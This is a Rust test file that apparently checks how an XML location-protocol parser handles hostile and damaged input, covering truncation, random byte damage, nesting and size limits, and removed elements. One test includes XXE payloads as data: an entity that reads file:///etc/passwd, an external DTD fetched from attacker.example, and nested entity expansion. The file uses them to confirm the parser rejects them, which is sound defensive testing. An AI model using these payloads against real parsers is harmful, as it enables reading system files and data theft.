//! Hostile and damaged documents: always an answer, never a panic, never an expansion.

use crate::samples::*;
use mlp::{
    Limits,
    rlp::{Answer, AnswerBody, Outgoing, PeerOutcome, PrivacyInstruction, Service, parse_svc_init, parse_svc_result},
};
use proptest::prelude::*;
use std::sync::LazyLock;

static REQUEST: LazyLock<String> = LazyLock::new(request);
static ANSWER: LazyLock<String> = LazyLock::new(answer);

fn request() -> String {
    let (sender, full) = (home(), full());
    let instruction = PrivacyInstruction::Either(indicators(), pseudo_external());
    let outgoing = Outgoing::to_visited(&sender, &full, target(), instruction).unwrap();
    outgoing.routing(routing()).codeword_to_user().transaction(transaction(), NOW).to_xml()
}

fn answer() -> String {
    let (asked, sender, fix, mut out) = (received(&target().into(), false), home(), fix(), String::new());
    let body = AnswerBody::Position { fix: &fix, at: NOW };
    Answer::to(mlp::rlp::Version::V1_1, &asked, &sender, body).with_surroundings().write(&mut out);
    out
}

fn refused(body: &str) -> u16 {
    parse_svc_init(body.as_bytes(), &Limits::default()).unwrap_err().result.0
}

#[test]
fn entities_and_internal_subsets_are_refused_on_both_sides() {
    let (_, request) = request().split_once("?>").map(|(a, b)| (a.to_owned(), b.to_owned())).unwrap();
    let (_, answer) = answer().split_once("?>").map(|(a, b)| (a.to_owned(), b.to_owned())).unwrap();
    for doctype in [
        "<!DOCTYPE x [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE x [<!ENTITY % e SYSTEM \"http://attacker.example/x.dtd\"> %e;]>",
        "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\">]>",
    ] {
        assert_eq!(refused(&format!("{doctype}{request}")), 106);
        assert!(parse_svc_result(format!("{doctype}{answer}").as_bytes(), &Limits::default()).is_err());
    }
    assert_eq!(refused(&request.replace("r-7f3a91", "&b;")), 106);
    assert!(parse_svc_result(answer.replace("r-7f3a91", "&b;").as_bytes(), &Limits::default()).is_err());
}

#[test]
fn depth_attributes_size_and_number_are_bounded() {
    let with = |what: &str| request().replace("</srlir>", &format!("{what}</srlir>"));
    let nested = |depth: usize| with(&("<a>".repeat(depth) + &"</a>".repeat(depth)));
    assert!(parse_svc_init(nested(30).as_bytes(), &Limits::default()).is_ok());
    assert_eq!(refused(&nested(31)), 106);
    assert_eq!(refused(&with(&"<a>".repeat(80_000))), 106);
    let attributes: String = (0..65).map(|n| format!(" a{n}='v'")).collect();
    assert_eq!(refused(&with(&format!("<truck{attributes}/>"))), 106);
    assert_eq!(refused(&with(&format!("<truck>{}</truck>", "v".repeat(300_000)))), 106);
    assert_eq!(refused(&request().replace("h-gmlc.home.example", &"h".repeat(257))), 110);
    assert_eq!(refused(&request().replace("Example Fleet", &"F".repeat(300))), 110);
    let many: String = (0..5000).map(|_| "<msid>4915110000001</msid>").collect();
    assert_eq!(refused(&request().replace("<eqop>", &format!("{many}<eqop>"))), 104);
    let deep = answer().replace("<shape>", &"<shape>".repeat(100));
    assert!(parse_svc_result(deep.as_bytes(), &Limits::default()).is_err());
    let identities = answer().replace("<pd>", &format!("{many}<pd>"));
    assert!(parse_svc_result(identities.as_bytes(), &Limits::default()).is_err());
}

#[test]
fn a_document_cut_anywhere_is_refused() {
    let (request, answer) = (request(), answer());
    for end in 0..request.len() {
        let error = parse_svc_init(&request.as_bytes()[..end], &Limits::default()).unwrap_err();
        assert_eq!(error.result.0, 106, "cut at {end}");
        let mut out = String::new();
        error.write(&mut out);
        assert_eq!(parse_answer(&out).outcome, PeerOutcome::Failed(error.result));
    }
    for end in 0..answer.len() {
        assert!(parse_svc_result(&answer.as_bytes()[..end], &Limits::default()).is_err(), "cut at {end}");
    }
}

/// An element taken out of a request makes it refused, or says less; it never instructs to more than was sent.
#[test]
fn nothing_taken_out_loosens_the_instruction() {
    let whole = request();
    let sent = immediate(&whole).instruction().unwrap();
    for (element, _) in whole.match_indices('<') {
        let rest = &whole[element..];
        let name: String = rest[1..].chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '_').collect();
        if name.is_empty() {
            continue;
        }
        let end = rest.find(&format!("</{name}>")).map(|at| at + name.len() + 3);
        let end = rest.find("/>").map(|at| at + 2).filter(|at| !rest[1..*at].contains('<')).or(end).unwrap();
        let without = whole[..element].to_owned() + &rest[end..];
        let Ok(init) = parse_svc_init(without.as_bytes(), &Limits::default()) else { continue };
        let Service::Immediate(read) = init.service else { panic!("{name}") };
        let Ok(instruction) = read.instruction() else { continue };
        let indicators = instruction.indicators();
        assert!(indicators.is_none() || indicators == sent.indicators(), "without {name}: {instruction:?}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1500))]

    #[test]
    fn damaged_documents_never_panic_and_are_always_answered(
        damage in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>(), 0u8..3), 1..8)
    ) {
        let damaged = |text: &str| {
            let mut body = text.as_bytes().to_vec();
            for (at, octet, kind) in &damage {
                let at = at.index(body.len());
                match kind {
                    0 => body[at] = *octet,
                    1 => body.insert(at, *octet),
                    _ => drop(body.remove(at)),
                }
            }
            body
        };
        match parse_svc_init(&damaged(&REQUEST), &Limits::default()) {
            Ok(init) => drop(format!("{init:?}")),
            Err(error) => {
                let mut out = String::new();
                error.write(&mut out);
                prop_assert_eq!(parse_answer(&out).outcome, PeerOutcome::Failed(error.result));
                prop_assert!(mlp::ResultId::ALL.contains(&error.result));
            }
        }
        let _read = parse_svc_result(&damaged(&ANSWER), &Limits::default()).is_ok();
    }

    #[test]
    fn any_octets_never_panic(body in prop::collection::vec(any::<u8>(), 0..400)) {
        prop_assert!(parse_svc_init(&body, &Limits::default()).is_err());
        prop_assert!(parse_svc_result(&body, &Limits::default()).is_err());
    }
}
